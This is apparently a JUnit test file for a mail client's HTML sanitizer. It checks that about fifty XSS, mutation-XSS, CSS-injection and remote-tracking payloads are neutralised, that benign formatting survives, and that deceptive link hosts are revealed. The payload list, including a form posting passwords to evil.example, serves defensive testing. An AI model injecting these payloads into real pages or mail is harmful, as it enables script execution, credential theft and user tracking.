package io.mainstem.mime;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

class HtmlSanitizerTest {
  /**
   * What has broken sanitizers before; each must come out without anything active and without a
   * request.
   */
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"javascript:alert(1)\">",
          "<img/src='x'/onerror=alert(1)>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\" java\nscript:alert(1)\">x</a>",
          "<a href=\"&#106;avascript:alert(1)\">x</a>",
          "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<a href=\"vbscript:msgbox(1)\">x</a>",
          "<svg onload=alert(1)><script>alert(1)</script></svg>",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
              + " onerror=alert(1)&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<iframe src=\"https://evil.example\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"https://evil.example/x.swf\"></object><embed src=https://evil.example>",
          "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<base href=\"https://evil.example/\">",
          "<link rel=stylesheet href=\"https://evil.example/x.css\">",
          "<style>@import 'https://evil.example/x.css';"
              + " body{background:url(https://evil.example/y)}</style>",
          "<div style=\"background:url(https://evil.example/track.gif)\">x</div>",
          "<div style=\"background-image:u\\72l(https://evil.example/track.gif)\">x</div>",
          "<div style=\"width:expression(alert(1))\">x</div>",
          "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
          "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
          "<table background=\"https://evil.example/track.gif\"><tr><td"
              + " background=//evil.example/y>x</td></tr></table>",
          "<body background=\"https://evil.example/track.gif\" onload=alert(1)>x",
          "<img src=\"https://evil.example/track.gif\">",
          "<img src=\"//evil.example/track.gif\">",
          "<img srcset=\"https://evil.example/track.gif 1x\">",
          "<picture><source srcset=\"https://evil.example/x\"><img"
              + " src=https://evil.example/y></picture>",
          "<video src=https://evil.example/x autoplay></video><audio src=https://evil.example/y"
              + " autoplay></audio>",
          "<input type=image src=https://evil.example/track.gif>",
          "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
          "<a href=https://x.example ping=https://evil.example/p>x</a>",
          "<img src=\"/api/v1/session\">",
          "<img src=\"x\" longdesc=\"https://evil.example\">",
          "<div id=\"app\" class=\"composer\" name=x>x</div>",
          "<template><script>alert(1)</script></template>",
          "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
          "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<p title=\"`><script>alert(1)</script>\">x</p>",
          "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
          "<a href=\"https://x.example\" target=_top onclick=alert(1) style=\"display:none\">x</a>",
          "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>");

  @Test
  void nothingHostileGetsThrough() {
    for (String hostile : HOSTILE) {
      for (String html :
          List.of(
              hostile,
              "<p>before " + hostile + " after</p>",
              hostile + hostile,
              "<b>" + hostile.toUpperCase(Locale.ROOT))) {
        String safe = HtmlSanitizer.sanitize(html, Map.of(), false).html();
        assertHarmless(html, safe);
        assertHarmless(
            html,
            Jsoup.parse(safe).body().html()); // nor when a browser's parser reads it once more
      }
    }
  }

  private static void assertHarmless(String from, String safe) {
    for (Element element : Jsoup.parse(safe).body().select("*")) {
      String name = element.normalName();
      assertFalse(
          List.of(
                  "script",
                  "style",
                  "iframe",
                  "object",
                  "embed",
                  "form",
                  "input",
                  "button",
                  "meta",
                  "base",
                  "link",
                  "svg",
                  "math",
                  "video",
                  "audio",
                  "source",
                  "picture",
                  "template",
                  "noscript",
                  "textarea",
                  "select",
                  "frame",
                  "marquee")
              .contains(name),
          () -> "<" + name + "> from " + from + ": " + safe);
      for (Attribute attribute : element.attributes()) {
        String key = attribute.getKey();
        String value = attribute.getValue().toLowerCase(Locale.ROOT);
        assertFalse(
            key.startsWith("on")
                || List.of("id", "class", "name", "srcset", "background", "ping", "action")
                    .contains(key),
            () -> key + " from " + from);
        if (key.equals("src")) {
          assertTrue(
              value.startsWith("data:image/") && !value.contains("svg"),
              () -> "src " + value + " from " + from);
        }
        if (key.equals("href")) {
          assertTrue(
              value.matches("(?s)(https?|mailto|tel):.*"), () -> "href " + value + " from " + from);
        }
        if (key.equals("style")) {
          assertFalse(
              value.matches("(?s).*(url|expression|position|binding|@|\\\\|z-index).*"),
              () -> "style " + value + " from " + from);
        }
      }
    }
  }

  @Test
  void whatPeopleWriteStays() {
    String html =
        "<h1 style=\"color:red;text-align:center\">Hi</h1><p dir=\"rtl\">مرحبا</p><table"
            + " cellpadding=\"2\"><tbody><tr><td"
            + " bgcolor=\"#ffffff\">1</td></tr></tbody></table><ul><li><b>bold</b>"
            + " <i>it</i></li></ul><blockquote>quoted</blockquote>";
    SafeHtml safe = HtmlSanitizer.sanitize(html, Map.of(), false);
    assertEquals(0, safe.blockedImages());
    for (String kept :
        List.of(
            "color:red",
            "text-align:center",
            "dir=\"rtl\"",
            "مرحبا",
            "<td bgcolor=\"#ffffff\">1</td>",
            "<b>bold</b>",
            "<blockquote>quoted</blockquote>")) {
      assertTrue(safe.html().contains(kept), () -> kept + " in " + safe.html());
    }
  }

  @Test
  void remoteImagesWaitUntilTheyAreAllowed() {
    String html =
        "<img src=\"https://x.example/a.png\" alt=\"A\" width=\"10\"><img"
            + " src=\"http://x.example/b.png\">";
    SafeHtml blocked = HtmlSanitizer.sanitize(html, Map.of(), false);
    assertEquals(2, blocked.blockedImages());
    assertFalse(blocked.html().contains("x.example"));
    assertTrue(blocked.html().contains("alt=\"A\""));
    SafeHtml allowed = HtmlSanitizer.sanitize(html, Map.of(), true);
    assertEquals(0, allowed.blockedImages());
    assertTrue(allowed.html().contains("src=\"https://x.example/a.png\""));
    assertTrue(allowed.html().contains("referrerpolicy=\"no-referrer\""));
  }

  @Test
  void inlineImagesComeFromTheMailItself() {
    Map<String, String> images = Map.of("pic@x", "/api/v1/blobs/1", "a b@x", "/api/v1/blobs/2");
    SafeHtml safe =
        HtmlSanitizer.sanitize(
            "<img src=\"cid:pic@x\"><img src=\"CID:a%20b@x\"><img src=\"cid:other\">",
            images, false);
    assertTrue(safe.html().contains("src=\"/api/v1/blobs/1\""), safe::html);
    assertTrue(safe.html().contains("src=\"/api/v1/blobs/2\""), safe::html);
    assertFalse(safe.html().contains("other"));
    assertEquals(0, safe.blockedImages());
  }

  @Test
  void linksShowWhereTheyReallyGo() {
    String[][] cases = {
      {"https://bank.example/login", "bank.example"},
      {"https://bank.example@evil.example/login", "evil.example"},
      {"https://bаnk.example/", "xn--bnk-6cd.example"},
      {"http://EVIL.example:8080/x?y", "evil.example"},
      {"https://evil.example\\@bank.example/", "evil.example"},
    };
    for (String[] one : cases) {
      Element link =
          Jsoup.parse(
                  HtmlSanitizer.sanitize(
                          "<a href=\"" + one[0] + "\">https://bank.example</a>", Map.of(), false)
                      .html())
              .selectFirst("a");
      assertEquals(one[1], link == null ? "" : link.attr("data-host"), one[0]);
      assertEquals("noopener noreferrer nofollow", link == null ? "" : link.attr("rel"));
      assertEquals("_blank", link == null ? "" : link.attr("target"));
    }
  }
}
